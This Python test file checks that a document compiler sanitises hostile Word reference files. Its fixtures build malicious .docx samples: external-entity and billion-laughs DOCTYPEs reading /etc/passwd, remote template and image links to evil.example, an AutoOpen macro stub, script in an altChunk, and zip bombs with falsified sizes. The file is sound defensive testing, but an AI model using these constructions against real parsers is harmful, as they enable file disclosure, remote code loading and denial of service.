"""Hostile `--reference-docx` files, made here with zipfile: only styles are taken, the rest never reaches
an output, and a reference that cannot be used is refused once, blaming it, before anything is written.

| case | outcome |
| --- | --- |
| `attachedTemplate` to a remote .dotm (settings.xml.rels) | dropped and named; outputs have no external relationship |
| external image and hyperlinks to `file:///etc/...` and `\\\\host\\share\\...` | dropped and named |
| external OLE object and frame | dropped and named |
| `word/vbaProject.bin` (an AutoOpen macro), an embedded OLE object, an `altChunk` HTML part | dropped and named |
| an extra header with an external image; a header with an entity in its text | dropped and named |
| a `customXml` part with a DOCTYPE and external entities | dropped, never parsed |
| embedded fonts in fontTable.xml, picture bullets in numbering.xml | their pointers removed, the rest taken |
| page size and margins of the reference (none at all, as in pandoc's; or odd ones) | ignored: the outputs keep ours; the SCO factsheet stays one page in LibreOffice (two before) |
| a template (.dotx) | taken like a .docx |
| a missing file | refused: `not found` |
| a FIFO, /dev/zero | refused unopened, no hang (argument parsing and build) |
| not a zip; no styles part; 5001 entries | refused |
| a DOCTYPE (billion laughs, external entity) in styles.xml; malformed styles.xml | refused |
| a style `basedOn` cycle | refused, naming the styles of the loop |
| a zip bomb: styles.xml declared 100 MiB; a part inflating past its declared size | refused |
"""

from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from docx import Document as open_docx

from compiler.build import BuildRequest, build
from compiler.console import Console
from compiler.document import BuildOptions
from compiler.writers.docx_reference import MAX_ENTRIES, REFERENCE_DOCX
from tests.hostile.reading import docx_active_parts, docx_external_targets

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent
BRIEF = HERE / "html-tags" / "brief.yaml"
SCO_BRIEF = ROOT / "content" / "sco-2012.yaml"
LIBREOFFICE = shutil.which("libreoffice") or shutil.which("soffice")
HANG_SECONDS = 60
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/package/2006/relationships"
ADVICE = "save it again from Word as .docx, or copy templates/reference.docx and restyle it"


def reference_parts() -> dict[str, bytes]:
    with zipfile.ZipFile(REFERENCE_DOCX) as package:
        return {name: package.read(name) for name in package.namelist()}


def rels(*relations: tuple[str, str, str, bool]) -> bytes:
    """A relationships part: (id, type, target, external) each."""
    external_mode = ' TargetMode="External"'
    items = "".join(f'<Relationship Id="{rid}" Type="{R}/{kind}" Target="{target}"'
                    f'{external_mode if external else ""}/>' for rid, kind, target, external in relations)
    return f'<?xml version="1.0"?><Relationships xmlns="{REL}">{items}</Relationships>'.encode()


def add_relations(rels_part: bytes, *relations: tuple[str, str, str, bool]) -> bytes:
    extra = rels(*relations)
    inner = extra[extra.index(b"<Relationship "):extra.rindex(b"</Relationships>")]
    return rels_part.replace(b"</Relationships>", inner + b"</Relationships>")


def restyle(styles: bytes) -> bytes:
    """Our styles with Body Text set in a font we can find again in the output."""
    marker = b'w:styleId="BodyText"'
    at = styles.index(marker)
    close = styles.index(b"</w:style>", at)
    return styles[:close] + b'<w:rPr><w:rFonts w:ascii="Hostile Serif" w:hAnsi="Hostile Serif"/></w:rPr>' + \
        styles[close:] if b"<w:rPr>" not in styles[at:close] else styles.replace(
            b"<w:rPr>", b'<w:rPr><w:rFonts w:ascii="Hostile Serif" w:hAnsi="Hostile Serif"/>', 1)


def hostile_parts() -> dict[str, bytes]:
    """Our reference restyled, plus every active or external part the issue found copied through."""
    parts = reference_parts()
    parts["word/styles.xml"] = restyle(parts["word/styles.xml"])
    parts["word/_rels/document.xml.rels"] = add_relations(
        parts["word/_rels/document.xml.rels"],
        ("rId90", "image", "file:///etc/passwd", True),
        ("rId91", "hyperlink", "\\\\host\\share\\leak.png", True),
        ("rId92", "oleObject", "file:///c:/evil.bin", True),
        ("rId93", "frame", "https://evil.example/frame.html", True),
        ("rId94", "vbaProject", "vbaProject.bin", False),
        ("rId95", "oleObject", "embeddings/oleObject1.bin", False),
        ("rId96", "aFChunk", "afchunk.html", False),
        ("rId97", "header", "header9.xml", False),
        ("rId98", "header", "header8.xml", False),
        ("rId99", "hyperlink", "file:///etc/shadow", True))
    parts["word/_rels/settings.xml.rels"] = rels(("rId1", "attachedTemplate", "https://evil.example/t.dotm", True))
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"</w:settings>", f'<w:attachedTemplate xmlns:r="{R}" r:id="rId1"/></w:settings>'.encode())
    parts["word/vbaProject.bin"] = b"Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\nShell \"calc\"\nEnd Sub\n"
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 an OLE compound file"
    parts["word/afchunk.html"] = b"<html><body><script>alert(1)</script></body></html>"
    parts["word/header9.xml"] = (f'<w:hdr xmlns:w="{W}" xmlns:r="{R}"><w:p><w:r><w:t>H</w:t></w:r></w:p>'
                                 "</w:hdr>").encode()
    parts["word/_rels/header9.xml.rels"] = rels(("rId1", "image", "http://evil.example/pixel.png", True))
    parts["word/header8.xml"] = f'<w:hdr xmlns:w="{W}"><w:p><w:r><w:t>&ent;</w:t></w:r></w:p></w:hdr>'.encode()
    parts["customXml/item2.xml"] = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
                                    b"<x>&e;</x>")
    parts["word/fontTable.xml"] = parts["word/fontTable.xml"].replace(
        b"</w:font>", f'<w:embedRegular xmlns:r="{R}" r:id="rId1" w:fontKey="{{00000000-0000-0000-0000-000000000000}}"/>'
        "</w:font>".encode(), 1)
    parts["word/_rels/fontTable.xml.rels"] = rels(("rId1", "font", "fonts/font1.odttf", False))
    parts["word/fonts/font1.odttf"] = b"an obfuscated font"
    # Odd page geometry: A5 landscape, five-centimetre margins.
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b'<w:pgSz w:w="11906" w:h="16838"/>', b'<w:pgSz w:w="11906" w:h="8391" w:orient="landscape"/>').replace(
        b'w:top="1020" w:right="1247" w:bottom="1020" w:left="1247"',
        b'w:top="2835" w:right="2835" w:bottom="2835" w:left="2835"')
    return parts


def write_zip(path: Path, parts: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return path


def build_with(reference: Path, out: Path) -> tuple[int, str, str]:
    request = BuildRequest(briefs=[BRIEF], out=out, formats=("docx",), options=BuildOptions(reference_docx=reference))
    console = Console(out=io.StringIO(), err=io.StringIO())
    status = build(request, console)
    return status, console.out.getvalue(), console.err.getvalue()


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, tuple[int, str, str]]:
    folder = tmp_path_factory.mktemp("hostile-reference")
    reference = write_zip(folder / "hostile.docx", hostile_parts())
    return reference, folder / "out" / "brief", build_with(reference, folder / "out")


def test_a_hostile_reference_builds_and_says_what_it_dropped(hostile_build) -> None:
    reference, _, (status, _, err) = hostile_build
    assert status == 0, err
    assert err.splitlines() == [
        f"{reference}:1:1: warning: took only what styles need (styles, numbering, theme, fonts) and dropped "
        "6 parts (word/afchunk.html, word/embeddings/oleObject1.bin, word/fonts/font1.odttf, word/header8.xml "
        "and 2 more) and 7 external links (file:///etc/passwd, \\\\host\\share\\leak.png, "
        "file:///c:/evil.bin, https://evil.example/frame.html and 3 more); Word files never carry them"]


@pytest.mark.parametrize("name", ["memo", "slides", "factsheet"])
def test_outputs_of_a_hostile_reference_carry_nothing_of_it_but_styles(hostile_build, name: str) -> None:
    _, folder, _ = hostile_build
    output = folder / f"{name}.docx"
    assert docx_active_parts(output) == []
    assert docx_external_targets(output) == []
    with zipfile.ZipFile(output) as package:
        names = package.namelist()
        assert not [part for part in names if "header8" in part or "header9" in part or "fonts/" in part]
        assert b"attachedTemplate" not in package.read("word/settings.xml")
        assert b"Hostile Serif" in package.read("word/styles.xml")
        assert b"DOCTYPE" not in b"".join(package.read(part) for part in names)


def test_the_page_geometry_stays_ours_whatever_the_reference(hostile_build) -> None:
    _, folder, _ = hostile_build
    section = open_docx(str(folder / "memo.docx")).sections[0]
    ours = open_docx(str(REFERENCE_DOCX)).sections[0]
    assert (section.left_margin, section.right_margin, section.top_margin, section.bottom_margin) == (
        ours.left_margin, ours.right_margin, ours.top_margin, ours.bottom_margin)
    assert section.page_height > section.page_width  # the memo is portrait A4, as without a reference


def without_margins(path: Path) -> Path:
    """Our reference with no page margins at all, as pandoc's reference sets none."""
    parts = reference_parts()
    document = parts["word/document.xml"]
    start = document.index(b"<w:pgMar ")
    parts["word/document.xml"] = document[:start] + document[document.index(b"/>", start) + 2:]
    return write_zip(path, parts)


def test_a_reference_without_margins_leaves_ours(tmp_path: Path) -> None:
    status, _, err = build_with(without_margins(tmp_path / "no-margins.docx"), tmp_path / "out")
    assert status == 0, err
    section = open_docx(str(tmp_path / "out" / "brief" / "factsheet.docx")).sections[0]
    assert section.left_margin == open_docx(str(REFERENCE_DOCX)).sections[0].left_margin


@pytest.mark.skipif(LIBREOFFICE is None, reason="libreoffice is not installed (make test installs it)")
def test_a_reference_without_margins_keeps_the_factsheet_on_one_page(tmp_path: Path) -> None:
    # With Word's default inch of margin, LibreOffice laid the SCO factsheet out on two pages.
    request = BuildRequest(briefs=[SCO_BRIEF], out=tmp_path / "out", formats=("docx",),
                           options=BuildOptions(reference_docx=without_margins(tmp_path / "no-margins.docx")))
    assert build(request, Console(out=io.StringIO(), err=io.StringIO())) == 0
    factsheet = tmp_path / "out" / "sco-2012" / "factsheet.docx"
    subprocess.run([LIBREOFFICE, f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless",
                    "--convert-to", "pdf", "--outdir", str(factsheet.parent), str(factsheet)],
                   check=True, capture_output=True, timeout=180)
    info = subprocess.run(["pdfinfo", str(factsheet.with_suffix(".pdf"))], check=True, capture_output=True,
                          text=True).stdout
    assert re.search(r"^Pages:\s+1$", info, re.M), info


def test_a_word_template_is_taken_like_a_document(tmp_path: Path) -> None:
    parts = reference_parts()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"wordprocessingml.template.main+xml")
    parts["word/styles.xml"] = restyle(parts["word/styles.xml"])
    status, out, err = build_with(write_zip(tmp_path / "house.dotx", parts), tmp_path / "out")
    assert (status, err) == (0, "")
    with zipfile.ZipFile(tmp_path / "out" / "brief" / "memo.docx") as package:
        assert b"Hostile Serif" in package.read("word/styles.xml")


def refused_cases(folder: Path) -> dict[str, tuple[Path, str]]:
    """Each unusable reference and the message it gets."""
    cases: dict[str, tuple[Path, str]] = {"missing": (folder / "missing.docx", "not found; name an existing .docx file")}
    fifo = folder / "fifo.docx"
    os.mkfifo(fifo)
    cases["fifo"] = (fifo, "is not a regular file (a pipe or a device); name a .docx file")
    cases["dev-zero"] = (Path("/dev/zero"), "is not a regular file (a pipe or a device); name a .docx file")
    (folder / "text.docx").write_text("not a zip")
    cases["not-a-zip"] = (folder / "text.docx", "not a Word file (not a zip archive); save one from Word as "
                          ".docx, or copy templates/reference.docx and restyle it")
    parts = reference_parts()
    del parts["word/styles.xml"]
    cases["no-styles"] = (write_zip(folder / "no-styles.docx", parts),
                          f"has no styles part, so it is not a Word document or template; {ADVICE}")
    with zipfile.ZipFile(folder / "many.docx", "w") as package:
        for index in range(MAX_ENTRIES + 1):
            package.writestr(f"x/{index}", b"")
    cases["many-entries"] = (folder / "many.docx", f"holds {MAX_ENTRIES + 1} files, more than the {MAX_ENTRIES} "
                             f"a Word file could need; {ADVICE}")
    laughs = (b'<?xml version="1.0"?><!DOCTYPE w:styles [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;">'
              b'<!ENTITY c "&b;&b;&b;&b;&b;&b;">]>' + reference_parts()["word/styles.xml"].split(b"?>", 1)[1]
              .replace(b"</w:styles>", b"<!-- &c; --></w:styles>"))
    for name, styles in (("billion-laughs", laughs), ("external-entity", laughs.replace(
            b'<!ENTITY a "lol">', b'<!ENTITY a SYSTEM "file:///etc/passwd">'))):
        parts = reference_parts()
        parts["word/styles.xml"] = styles
        cases[name] = (write_zip(folder / f"{name}.docx", parts),
                       "its part word/styles.xml declares a DOCTYPE, which Word files never have (it can define "
                       f"entities that fetch files or expand without bound); {ADVICE}")
    parts = reference_parts()
    parts["word/styles.xml"] = parts["word/styles.xml"][:5000]
    cases["malformed"] = (write_zip(folder / "malformed.docx", parts), "its part word/styles.xml is not "
                          "well-formed XML")
    parts = reference_parts()
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(
        b'w:styleId="Normal">', b'w:styleId="Normal"><w:basedOn w:val="BodyText"/>', 1)
    cases["based-on-cycle"] = (write_zip(folder / "cycle.docx", parts), "its style 'Normal' is based on "
                               "itself ('Normal' -> 'BodyText' -> 'Normal'); set that style's 'based on' "
                               f"to another style, or to none; {ADVICE}")
    parts = reference_parts()
    parts["word/styles.xml"] = b" " * (100 * 2**20)
    cases["declared-bomb"] = (write_zip(folder / "bomb.docx", parts), "its part word/styles.xml would inflate "
                              f"to 100 MiB, more than the 8 MiB a reference part may take; {ADVICE}")
    cases["size-lie"] = (size_lie(folder / "lie.docx"), "its part word/styles.xml cannot be read")
    return cases


def size_lie(path: Path) -> Path:
    """A reference whose styles.xml declares 1 KiB and inflates to 9 MiB (sizes patched in the zip)."""
    parts = reference_parts()
    parts["word/styles.xml"] = b" " * (9 * 2**20)
    data = bytearray(write_zip(path, parts).read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as package:
        entry = package.getinfo("word/styles.xml")
    central = [at for at in range(len(data)) if data.startswith(b"PK\x01\x02", at)
               and data[at + 46:at + 46 + len(b"word/styles.xml")] == b"word/styles.xml"][0]
    data[central + 24:central + 28] = (1024).to_bytes(4, "little")
    data[entry.header_offset + 22:entry.header_offset + 26] = (1024).to_bytes(4, "little")
    path.write_bytes(bytes(data))
    return path


@pytest.fixture(scope="module")
def refused(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[Path, str]]:
    return refused_cases(tmp_path_factory.mktemp("refused-references"))


CASES = ["missing", "fifo", "dev-zero", "not-a-zip", "no-styles", "many-entries", "billion-laughs",
         "external-entity", "malformed", "based-on-cycle", "declared-bomb", "size-lie"]


@pytest.mark.parametrize("case", CASES)
def test_an_unusable_reference_is_refused_once_before_anything_is_written(
        refused: dict[str, tuple[Path, str]], case: str, tmp_path: Path) -> None:
    reference, message = refused[case]
    out = tmp_path / "out"
    run = subprocess.run([sys.executable, "-m", "compiler", "build", str(BRIEF), "--out", str(out),
                          "--reference-docx", str(reference)], cwd=ROOT, capture_output=True, text=True,
                         timeout=HANG_SECONDS)
    assert run.returncode == 2
    line, = run.stderr.splitlines()[-1:]
    assert line.startswith(f"briefing build: error: argument --reference-docx: {reference}: {message}")
    assert "Traceback" not in run.stderr
    assert not out.exists()


@pytest.mark.parametrize("case", ["fifo", "based-on-cycle", "declared-bomb"])
def test_a_build_asked_directly_refuses_it_the_same_way(refused, case: str, tmp_path: Path) -> None:
    reference, message = refused[case]
    status, out, err = build_with(reference, tmp_path / "out")
    assert status == 1
    assert err.splitlines() == [f"{reference}:1:1: {message}"]
    assert not (tmp_path / "out").exists()
